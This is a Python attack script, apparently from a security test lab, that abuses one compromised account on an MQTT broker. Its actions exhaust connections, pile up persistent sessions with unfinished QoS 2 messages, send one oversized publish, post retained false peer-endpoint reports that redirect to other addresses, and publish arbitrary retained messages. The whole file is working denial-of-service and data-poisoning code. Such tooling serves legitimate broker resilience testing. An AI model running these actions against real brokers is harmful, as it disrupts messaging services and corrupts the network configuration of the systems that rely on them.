"""A program that abuses one account of the broker.

`python -m lab.attacks.thief ACTION --user USER [--host ADDRESS] [--source ADDRESS] [--timeout S] [--count N] [--bytes
N] [--seconds S] [--topic TOPIC]`, inside a namespace that reaches the broker. The first line of standard input is
{"password": …}. Prints one JSON line per event: started, done {…}; after `done` it keeps its connections until standard
input ends.
"""

import argparse
import json
import random
import sys
import time
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from typing import Any

from lab.attacks.raw_mqtt import PUBLISH, RawClient, packet, parse_publish, publish_packet, text

PORT = 1883
CHUNK_BYTES = 1 << 16
SEED = 20
_kept: list[RawClient] = []


class Options(argparse.Namespace):
    """The command line, and the password from standard input."""

    action: str
    user: str
    host: str
    source: str
    timeout: float
    count: int
    bytes: int
    seconds: float
    topic: str
    password: str


def emit(event: str, **data: object) -> None:
    """Print one event with the current time."""
    print(json.dumps({"t_ns": time.time_ns(), "event": event, **data}), flush=True)


def login(options: Options, client_id: str, *, is_clean: bool = True) -> RawClient | None:
    """Return a new connection, None if the broker did not accept it; it stays open until the end."""
    try:
        client = RawClient(options.host, PORT, options.source, options.timeout)
    except OSError:
        return None
    _kept.append(client)
    return client if client.login(client_id, options.user, options.password, is_clean=is_clean) else None


def exhaust_connections(options: Options) -> dict[str, object]:
    """Open connections, each with its own client-id, until `count` or the end of the time."""
    deadline = time.monotonic() + options.seconds
    tried = accepted = 0
    while tried < options.count and time.monotonic() < deadline:
        accepted += login(options, f"x{tried}") is not None
        tried += 1
    return {"tried": tried, "accepted": accepted}


def fill_sessions(options: Options) -> dict[str, object]:
    """Open persistent sessions with unfinished QoS 2 messages, and leave them behind."""
    sent = 0
    deadline = time.monotonic() + options.seconds
    for number in range(options.count):
        client = login(options, f"kept-{number}", is_clean=False)
        if client is None or time.monotonic() > deadline:
            break
        with suppress(OSError):
            client.subscribe(options.topic, 2)
            for message in range(1, 41):
                client.send(publish_packet(options.topic, b"x" * options.bytes, 2, message))
                sent += options.bytes
        client.close()
        _kept.remove(client)
    return {"sent_mib": sent >> 20}


def publish_large(options: Options) -> dict[str, object]:
    """Publish one message of `bytes` bytes."""
    client = login(options, "large")
    assert client is not None
    sent = 0
    head = text(options.topic)
    with suppress(OSError):
        client.send(packet(PUBLISH, b"", len(head) + options.bytes) + head)
        while sent < options.bytes:
            client.send(b"x" * min(CHUNK_BYTES, options.bytes - sent))
            sent += CHUNK_BYTES
    return {"sent_mib": sent >> 20}


def lie(options: Options) -> dict[str, object]:
    """Answer each own table with two reports that contradict each other and the table."""
    client = login(options, "liar")
    assert client is not None
    client.subscribe(options.topic, 0)  # at QoS 1 the broker would wait for acknowledgements
    report_topic = options.topic.replace("/endpoints", "/report")
    chance = random.Random(SEED)  # noqa: S311 - not a secret
    deadline, tables, reports = time.monotonic() + options.seconds, 0, 0
    known: dict[str, Any] = {}
    while (left_s := deadline - time.monotonic()) > 0:
        client.socket.settimeout(left_s)
        try:
            first, body = client.read()
        except TimeoutError:
            break
        if first & 0xF0 != PUBLISH:
            continue
        _, payload = parse_publish(first, body)
        tables += 1
        table = json.loads(payload)
        known |= {peer["key"]: peer for peer in table["peers"]}
        for stage in ("applied", "final"):
            report = false_report(table["seq"], list(known.values()), stage, chance)
            client.send(publish_packet(report_topic, report, retain=True))
            reports += 1
    return {"tables": tables, "reports": reports}


def false_report(seq: str, peers: Sequence[Any], stage: str, chance: random.Random) -> bytes:
    """Return a report on the table `seq` with false entries about all `peers`, also those that it leaves out.

    Of every second peer it says each time that it had to be set again, to the same endpoint; of the others anything.
    """
    lines = []
    for number, peer in enumerate(peers):
        right = f"{peer.get('address', '')} {peer.get('port', '')}"
        random_line = {
            "did": chance.choice(("set", "same", "kept", "roamed", "reapplied", "newer")),
            "configured": chance.choice((right, "203.0.113.99 99", "")),
            "current": chance.choice((right, "203.0.113.98 98", "")),
            "handshake_s": chance.choice(("", "00:00:01", "09:00:00")),
            "rx": str(chance.randrange(1000)),
            "error": chance.choice(("", "", "disabled", "no such peer")),
        }
        again = {"did": "set", "configured": "203.0.113.99 99", "current": "203.0.113.99 99", "rx": "1"}
        lines.append({"key": peer["key"], **(random_line if number % 2 else again)})
    body = {"v": 1, "seq": seq, "stage": stage, "script": "x", "error": "", "peers": lines}
    return json.dumps(body).encode()


def publish_lines(options: Options) -> dict[str, object]:
    """Publish the payloads of further lines {"topic": …, "payload": …} of standard input, retained, in order."""
    client = login(options, "publisher")
    assert client is not None
    count = 0
    for line in sys.stdin:
        message = json.loads(line)
        client.send(publish_packet(message["topic"], message["payload"].encode(errors="surrogatepass"), retain=True))
        emit("published", topic=message["topic"])
        count += 1
    return {"count": count}


ACTIONS: Mapping[str, Callable[[Options], dict[str, object]]] = {
    "connections": exhaust_connections,
    "sessions": fill_sessions,
    "large": publish_large,
    "lie": lie,
    "publish": publish_lines,
}


def main() -> None:
    """Run one action."""
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("action", choices=ACTIONS)
    arguments.add_argument("--user", required=True)
    arguments.add_argument("--host", default="127.0.0.1")
    arguments.add_argument("--source", default="")
    arguments.add_argument("--timeout", type=float, default=10.0)
    arguments.add_argument("--count", type=int, default=1)
    arguments.add_argument("--bytes", type=int, default=1)
    arguments.add_argument("--seconds", type=float, default=10.0)
    arguments.add_argument("--topic", default="")
    options = arguments.parse_args(namespace=Options())
    options.password = json.loads(sys.stdin.readline())["password"]
    emit("started")
    emit("done", **ACTIONS[options.action](options))
    sys.stdin.read()


if __name__ == "__main__":
    main()
